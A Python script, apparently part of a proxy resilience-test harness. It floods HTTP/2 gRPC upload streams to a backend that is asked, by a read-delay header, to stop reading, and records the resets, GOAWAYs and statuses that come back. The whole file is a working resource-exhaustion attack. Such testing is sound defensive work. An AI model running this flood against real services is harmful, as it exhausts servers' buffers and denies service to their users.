#!/usr/bin/env python3
# The upload-direction attack: client-streaming RPCs to a backend that stops reading, written as fast as windows allow.
import sys
import threading
import time

import h2.errors
import h2.events

import tls_h2


def parse_args():
    parser = tls_h2.attack_arguments("Push request DATA into uploads the backend never reads.", connections=1)
    parser.add_argument("--message-bytes", type=int, default=65536, help="payload of each gRPC message")
    parser.add_argument("--read-delay-ms", type=int, default=1000000, help="x-read-delay-ms asked of the backend")
    return tls_h2.parse(parser)


def error_name(code):
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return str(code)


class Uploads:
    def __init__(self, args, context):
        self.args, self.context = args, context
        self.lock = threading.Lock()
        self.connections = []
        self.streams_opened = self.bytes_sent = 0
        self.resets = {}
        self.ended = {}  # grpc-status of uploads the proxy or backend answered
        self.goaways = {}
        self.errors = []
        self.stopping = threading.Event()  # errors after this come from our own shutdown
        payload = b"\x00" * args.message_bytes
        self.message = b"\x00" + len(payload).to_bytes(4, "big") + payload  # one gRPC length-prefixed message

    def bump(self, table, key):
        with self.lock:
            table[key] = table.get(key, 0) + 1

    def run_connection(self, ready, deadline):
        try:
            conn = tls_h2.Connection(self.context, self.args.port, self.args.server_name)
            with self.lock:
                self.connections.append(conn)
            metadata = [("x-read-delay-ms", str(self.args.read_delay_ms))]
            offsets = {}  # open stream -> how far into `self.message` it has written
            for _ in range(self.args.streams):
                offsets[conn.open_grpc_stream("/api.Probe/Upload", metadata)] = 0
            with self.lock:
                self.streams_opened += len(offsets)
            conn.flush()
        except Exception as error:
            self.note(error)
            ready.release()
            return
        ready.release()
        try:
            self.pump(conn, offsets, deadline)
        except Exception as error:
            self.note(error)

    def pump(self, conn, offsets, deadline):
        while offsets and time.monotonic() < deadline:
            wrote = 0
            for stream_id in list(offsets):
                wrote += self.write_some(conn, stream_id, offsets)
            conn.flush()
            # Blocked by flow control: wait for the peer's WINDOW_UPDATE (or RST).
            wait = 0 if wrote else min(0.1, max(0, deadline - time.monotonic()))
            if conn.readable(wait):
                events = conn.receive()
                if events is None:
                    return
                for event in events:
                    self.handle(conn, event, offsets)

    def write_some(self, conn, stream_id, offsets):
        allowed = min(conn.h2.local_flow_control_window(stream_id), conn.h2.max_outbound_frame_size)
        piece = self.message[offsets[stream_id]:offsets[stream_id] + allowed]
        if not piece:
            return 0
        conn.h2.send_data(stream_id, piece)
        offsets[stream_id] = (offsets[stream_id] + len(piece)) % len(self.message)
        with self.lock:
            self.bytes_sent += len(piece)
        return len(piece)

    def handle(self, conn, event, offsets):
        if isinstance(event, h2.events.StreamReset):
            self.bump(self.resets, error_name(event.error_code))
            offsets.pop(event.stream_id, None)
        elif isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
            status = dict(event.headers).get("grpc-status")
            if status is not None:
                self.bump(self.ended, status)
        elif isinstance(event, h2.events.StreamEnded):
            offsets.pop(event.stream_id, None)
        elif isinstance(event, h2.events.DataReceived):
            conn.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        elif isinstance(event, h2.events.ConnectionTerminated):
            self.bump(self.goaways, error_name(event.error_code))
            offsets.clear()

    def note(self, error):
        if self.stopping.is_set():
            return
        with self.lock:
            if len(self.errors) < 5:
                self.errors.append(f"{type(error).__name__}: {error}")

    def stop(self):
        """Closes every connection (also waking a writer blocked on a full socket)."""
        self.stopping.set()
        with self.lock:
            connections = list(self.connections)
        for conn in connections:
            conn.abort()

    def report(self):
        with self.lock:
            return {"streams_opened": self.streams_opened, "bytes_sent": self.bytes_sent,
                    "resets_received": self.resets, "grpc_status": self.ended,
                    "goaways": self.goaways, "errors": self.errors}


def main():
    return tls_h2.run_attack("slow_uploaders", parse_args(), Uploads)


if __name__ == "__main__":
    sys.exit(main())
